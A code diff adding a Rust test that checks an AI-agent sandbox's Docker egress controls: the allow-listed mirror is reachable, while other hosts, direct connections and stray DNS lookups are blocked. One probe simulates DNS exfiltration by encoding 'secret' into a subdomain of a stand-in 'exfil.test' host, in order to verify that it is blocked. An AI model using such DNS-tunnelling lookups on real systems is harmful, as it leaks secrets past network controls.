@@ -505,3 +505,86 @@ fn a_local_run_reaches_only_its_egress_entries() {
     assert!(code != 0 && err.contains("public suffix"), "{err}");
     drop(host);
 }
+
+/// The Docker runtime: the container has no network (only loopback) and the server's proxy and
+/// resolver listen inside its namespace, as with bubblewrap.
+#[test]
+fn a_docker_sandbox_reaches_its_allow_list_and_nothing_else() {
+    let test = "a_docker_sandbox_reaches_its_allow_list_and_nothing_else";
+    if !privileged(test) {
+        return;
+    }
+    let image = std::env::var("AGENTFENSE_DOCKER_IMAGE")
+        .unwrap_or_else(|_| "agentfense-test-base".to_owned());
+    let ready = std::path::Path::new("/var/run/docker.sock").exists()
+        && Command::new("docker")
+            .args(["image", "inspect", &image])
+            .output()
+            .is_ok_and(|o| o.status.success());
+    if !agentfense_testsupport::require(
+        test,
+        (!ready)
+            .then(|| format!("a Docker daemon with image {image} (run scripts/docker-setup.sh)")),
+    ) {
+        return;
+    }
+    let tmp = tempfile::tempdir().unwrap();
+    let host = TestHost::start(tmp.path());
+    let data = tmp.path().join("data");
+    let mut server = Server::start_with(
+        &data,
+        &format!(
+            "runtime:\n  type: docker\n  docker:\n    default_image: {image}\n\
+             network:\n  private_allow: ['{}']\n  upstream_dns: ['{}']\n  hosts:\n    other.test: ['{}']\n",
+            host.subnet, host.addr, host.addr
+        ),
+    );
+    let (code, cb, err) = cli(&server, &["codebase", "create", "net"]);
+    assert_eq!(code, 0, "{err}");
+    let (code, sb, err) = cli(
+        &server,
+        &[
+            "sandbox",
+            "create",
+            cb.trim(),
+            "--label",
+            "agentfense.egress=mirror.test:8000",
+            "--start",
+        ],
+    );
+    assert_eq!(code, 0, "{err}\n{}", server.log_text());
+    let sb = sb.trim().to_owned();
+    let run = |cmd: &str| cli(&server, &["exec", &sb, "--", cmd]);
+    let fetch = |url: &str, proxy: bool| {
+        let opener = if proxy {
+            "u.build_opener()"
+        } else {
+            "u.build_opener(u.ProxyHandler({}))"
+        };
+        run(&format!(
+            "python3 -c \"import urllib.request as u, urllib.error as e\ntry: print({opener}.open('{url}', timeout=10).read().decode().strip())\nexcept e.HTTPError as x: print(x.code)\""
+        ))
+    };
+    // It is a container (docker-init is its first process).
+    let (_, out, _) = run("tr '\\0' ' ' < /proc/1/cmdline");
+    assert!(out.contains("docker-init"), "{out}");
+    let (code, out, err) = fetch("http://mirror.test:8000/ok.txt", true);
+    assert_eq!((code, out.trim()), (0, "reached the mirror"), "{err}");
+    let (_, out, _) = fetch("http://other.test:8000/ok.txt", true);
+    assert_eq!(out.trim(), "403");
+    let (code, _, _) = fetch(&format!("http://{}:8000/ok.txt", host.addr), false);
+    assert_ne!(code, 0, "a direct connection got through");
+    let (code, out, err) = run("getent hosts mirror.test");
+    assert!(code == 0 && out.contains(&host.addr), "{out}{err}");
+    let (code, _, _) = run("getent hosts c2VjcmV0.exfil.test");
+    assert_ne!(code, 0);
+    for q in host.dns_queries().lines() {
+        assert!(
+            q == "mirror.test 1" || q == "mirror.test 28",
+            "the test DNS server was asked {q:?}"
+        );
+    }
+    assert_eq!(cli(&server, &["sandbox", "rm", &sb]).0, 0);
+    server.stop();
+    drop(host);
+}
